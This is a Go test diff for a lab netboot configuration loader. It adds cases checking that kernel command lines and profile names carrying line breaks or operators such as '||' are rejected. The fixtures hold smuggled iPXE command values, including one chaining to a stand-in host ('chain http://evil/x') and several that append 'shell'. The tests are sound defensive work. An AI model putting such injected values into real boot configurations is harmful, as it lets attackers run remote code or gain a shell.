@@ -69,6 +69,10 @@ func writeLab(t *testing.T, content string) string {
 	dir := t.TempDir()
 	artifacts(t, filepath.Join(dir, "out", "qemu"), "qemu")
 	artifacts(t, filepath.Join(dir, "out", "install"), "install")
+	artifacts(t, filepath.Join(dir, "out", "bad"), "bad")
+	m, _ := manifest.Load(filepath.Join(dir, "out", "bad"))
+	m.Cmdline = "console=ttyS0\nshell"
+	m.Write(filepath.Join(dir, "out", "bad"))
 	path := filepath.Join(dir, "lab.yaml")
 	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
 		t.Fatal(err)
@@ -130,6 +134,11 @@ func TestLoadErrors(t *testing.T) {
 		{"yaml", "server: [\n", []string{"not valid YAML"}},
 		{"empty", "", []string{"empty"}},
 		{"not a map", "- a\n", []string{"the top level must be a mapping"}},
+		{"cmdline line break", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: \"quiet\\nchain http://evil/x\"\n", []string{"lab.yaml:4: profiles.qemu.cmdline: the kernel command line contains a control character", "one line"}},
+		{"cmdline operator", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: quiet || shell\n", []string{"lab.yaml:4: profiles.qemu.cmdline:", `"||" would chain another iPXE command`}},
+		{"profile name line break", "profiles:\n  \"a\\nshell\":\n    artifacts: out/qemu\n", []string{"lab.yaml:2: profiles.", "not a usable profile name"}},
+		{"profile name slash", "profiles:\n  a/b:\n    artifacts: out/qemu\n", []string{"lab.yaml:2:", "not a usable profile name"}},
+		{"manifest cmdline", "profiles:\n  bad:\n    artifacts: out/bad\n", []string{"lab.yaml:3: profiles.bad.artifacts:", "manifest.json: the kernel command line contains a control character"}},
 		{"two errors", "server:\n  http_port: 0\ndhcp:\n  lease_time: 5s\n", []string{"2 problems", "lab.yaml:2: server.http_port", "lab.yaml:4: dhcp.lease_time"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
